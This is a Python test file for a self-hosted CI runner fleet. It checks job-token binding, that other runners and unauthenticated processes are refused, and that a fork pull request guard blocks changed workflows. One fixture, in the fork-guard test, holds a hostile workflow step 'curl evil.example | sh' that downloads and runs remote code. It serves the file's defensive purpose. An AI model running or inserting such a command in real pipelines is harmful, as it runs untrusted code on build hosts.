"""Each fleet runner's jobs are bound to it on the job API (what a job leaves on the host goes with its
runner: tests/fleet/test_fleet_runner_end.py).

With stand-in runners and the real service (no VM is needed here: nothing is uploaded, so no job
starts; tests/fleet/test_fleet_binding_vm.py does the same with real VMs and the action):
- a process of the runner user without a runner token (another job's, or anything in the socket's
  group) can neither list nor submit; a runner may submit only for the job its hook reported, so not
  as another repository; a job is reached only with its own job token;
- the fork guard runs in the service for the fleet's hooks: a fork pull request job whose `.github`
  changed is refused before any step;
- without a `runners:` section a socket member without a runner credential runs local jobs only (as
  `local_jobs.repository`), may not list, and not reach a job without its token.
"""

from __future__ import annotations

import json
import subprocess
from pathlib import Path
from typing import Any

from runner.jobapi.client import JobClient
from runner.jobapi.contract import GitHubJob, JobStarted
from tests.fleet.conftest import PYTHON, Account
from tests.fleet.test_fleet import wait_until
from tests.github.repo_fakes import FakeRepo

PROBE = Path(__file__).resolve().parent / "probe.py"
RUN_ID = 700001  # the fake GitHub's run id for job 1
BASE_SHA = "e15189e841439da251f852a11d8fc9b339c1be68"  # of the real fork pull request #217 the fake events carry
HEAD_SHA = "5864e328f129b98726813940b5bfa44707963bdc"
WORKFLOW = ".github/workflows/ci.yml"


def spec(repository: str = "listendev/lstn", run_id: int = RUN_ID, job: str = "check") -> dict[str, Any]:
    return {"repository": repository, "sha": "f" * 40, "run_id": run_id, "run_attempt": 1, "job_name": job,
            "command": "true"}


def started(repository: str = "listendev/lstn", run_id: int = RUN_ID) -> JobStarted:
    return JobStarted(GitHubJob(repository, run_id, 1, "check"), f"{repository}/{WORKFLOW}@refs/heads/main", "push",
                      {"event_name": "push", "repository": repository, "workflow_ref": "", "pull_request": None})


def probe(account: Account, socket: Path, requests: list, runner_token: str | None = None) -> list[dict]:
    """The requests, made by a process of the runner user (its uid is what SO_PEERCRED shows)."""
    env = {"PATH": "/usr/bin:/bin"} | ({"MICROVM_CHECK_RUNNER_TOKEN": runner_token} if runner_token else {})
    done = subprocess.run([str(PYTHON), "-I", str(PROBE), json.dumps(requests), str(socket)], user=account.uid,
                          group=account.group, extra_groups=[account.group], env=env, cwd="/", capture_output=True,
                          text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    return [json.loads(line.split(" ", 1)[1]) for line in done.stdout.splitlines() if line.startswith("probe ")]


def test_a_runner_submits_only_for_its_reported_job_and_reaches_only_its_own(make_rig) -> None:
    with make_rig(vms=False, min_idle=2, max_runners=2, shutdown_grace_seconds=0) as rig:
        first, second = wait_until(lambda: len(rig.fleet.runners()) == 2 and rig.fleet.runners(), 60, "two runners")
        socket = rig.root / "api.sock"
        for runner, run_id in ((first, RUN_ID), (second, RUN_ID + 1)):  # what each runner's hook reports
            with JobClient(socket=str(socket), runner_token=runner.token) as client:
                assert client.job_started(started(run_id=run_id)).allowed
        nobody = probe(rig.account, socket, [["list"], ["submit", spec()]])
        mine = probe(rig.account, socket, [["submit", spec()]], first.token)[0]
        job_id, job_token = mine["id"], mine["token"]
        same = probe(rig.account, socket, [["get", job_id, job_token], ["get", job_id, None], ["list"]], first.token)
        other = probe(rig.account, socket, [
            ["submit", spec("octo-org/other", RUN_ID + 1)], ["submit", spec(run_id=RUN_ID)],
            ["get", job_id, None], ["get", job_id, "not-" + job_token], ["logs", job_id, None],
            ["artifacts", job_id, None], ["upload", job_id, None], ["cancel", job_id, None], ["list"]], second.token)
        stolen = probe(rig.account, socket, [["get", job_id, None]], "a-token-the-service-never-issued")
        assert rig.host.service.get(job_id).state.value == "awaiting_checkout"  # nothing of it was touched
        assert rig.host.service.get(job_id).repository == "listendev/lstn"
    assert nobody[0]["status"] == 403 and "listing all jobs is for the operator" in nobody[0]["error"]
    assert nobody[1]["status"] == 403 and "sent no runner token" in nobody[1]["error"]
    assert mine["status"] == 201 and job_token
    assert [answer["status"] for answer in same] == [200, 403, 403]
    assert "can only be reached with the job token its submit answered" in same[1]["error"]
    refused_repository, refused_run = other[0], other[1]
    assert refused_repository["status"] == 403
    assert (f"runner {second.name} runs listendev/lstn run {RUN_ID + 1}/1 job check, but this submit is for "
            f"octo-org/other run {RUN_ID + 1}/1 job check") in refused_repository["error"]
    assert refused_run["status"] == 403 and f"this submit is for listendev/lstn run {RUN_ID}/1" in refused_run["error"]
    assert [answer["status"] for answer in other[2:]] == [403] * 7, other
    assert "sent a token that is not this job's" in other[3]["error"]
    assert stolen[0]["status"] == 401 and "not one this service issued" in stolen[0]["error"]


def test_a_second_report_cannot_rebind_a_runner_to_another_job(make_rig) -> None:
    with make_rig(vms=False, min_idle=1, max_runners=1, shutdown_grace_seconds=0) as rig:
        runner = wait_until(lambda: rig.fleet.runners(), 60, "a runner")[0]
        socket = rig.root / "api.sock"
        with JobClient(socket=str(socket), runner_token=runner.token) as client:
            assert client.job_started(started()).allowed
        again = probe(rig.account, socket, [["submit", spec("octo-org/other")]], runner.token)
        rebind = subprocess.run(
            [str(PYTHON), "-I", "-c", "import sys; from runner.fleet import hook; "
             "sys.exit(hook.job_started(sys.argv[1], {'MICROVM_CHECK_RUNNER_TOKEN': sys.argv[2], "
             "'GITHUB_REPOSITORY': 'octo-org/other', 'GITHUB_RUN_ID': '5', 'GITHUB_JOB': 'x', "
             "'GITHUB_EVENT_NAME': 'push'}, sys.stdout))", str(socket), runner.token],
            user=rig.account.uid, group=rig.account.group, extra_groups=[rig.account.group], cwd="/",
            capture_output=True, text=True, timeout=60)
    assert again[0]["status"] == 403
    assert rebind.returncode == 1
    assert f"runner {runner.name} already reported listendev/lstn run {RUN_ID}/1 job check" in rebind.stdout


def test_fork_pull_request_whose_github_dir_changed_is_refused_by_the_service_guard(make_rig) -> None:
    safe = ("on: pull_request\njobs:\n  test:\n    runs-on: [self-hosted, microvm-check]\n"
            "    steps:\n      - run: true\n")
    evil = safe.replace("- run: true", "- run: curl evil.example | sh")
    with make_rig(vms=False, min_idle=1, max_runners=1) as rig:
        FakeRepo(rig.github.operations, "listendev/lstn", {BASE_SHA: {WORKFLOW: safe}, HEAD_SHA: {WORKFLOW: evil}}
                 ).register(rig.mock)
        rig.enqueue(1, [{"run": "echo the-fork-ran-this"}], event="pull_request",
                    workflow_ref=f"listendev/lstn/{WORKFLOW}@refs/pull/217/merge")
        result = wait_until(lambda: rig.github.results(), 120, "the job to end")[0]["result"]
    assert result["conclusion"] == "failure" and result["steps"] == [], result["log"]
    assert "the-fork-ran-this" not in result["log"]
    assert "::error title=microvm-check guard::" in result["log"]
    assert "comes from the fork leodido/lstn, and" in result["log"]
    assert "was changed by pull request #217" in result["log"]


def test_single_runner_setup_a_socket_member_runs_local_jobs_only(account: Account, rig_root: Path) -> None:
    """No `runners:` section and no runner credential: a socket member's jobs run as the operator's
    `local_jobs.repository`, whatever repository they name, and reach only their own jobs; without
    that setting a socket member may not submit at all."""
    import yaml

    from runner.service.config.reading import load_config
    from runner.service.host.assembly import ServiceHost

    path = rig_root / "service.yml"
    socket = rig_root / "api.sock"
    base = {"socket": str(socket), "socket_group": account.group, "state_dir": str(rig_root / "state")}
    path.write_text(yaml.safe_dump({**base, "local_jobs": {"repository": "local/jobs"}}))
    with ServiceHost(load_config(path), sandboxes=_no_vms, origin=str(path)) as host:
        first = probe(account, socket, [["submit", spec()]])[0]
        second = probe(account, socket, [["submit", spec("octo-org/other", 9)], ["list"],
                                         ["get", first["id"], None], ["cancel", first["id"], None],
                                         ["get", first["id"], first["token"]]])
        assert host.service.get(first["id"]).state.value == "awaiting_checkout"
        repositories = {host.service.get(first["id"]).repository, host.service.get(second[0]["id"]).repository}
    path.write_text(yaml.safe_dump(base))
    with ServiceHost(load_config(path), sandboxes=_no_vms, origin=str(path)):
        refused = probe(account, socket, [["submit", spec()]])[0]
    assert first["status"] == 201 and second[0]["status"] == 201
    assert [answer["status"] for answer in second[1:]] == [403, 403, 403, 200]
    assert repositories == {"local/jobs"}
    assert refused["status"] == 403 and "runs local jobs only" in refused["error"]


def _no_vms(request: Any) -> Any:
    raise AssertionError("no job here gets a checkout: no VM may be created")
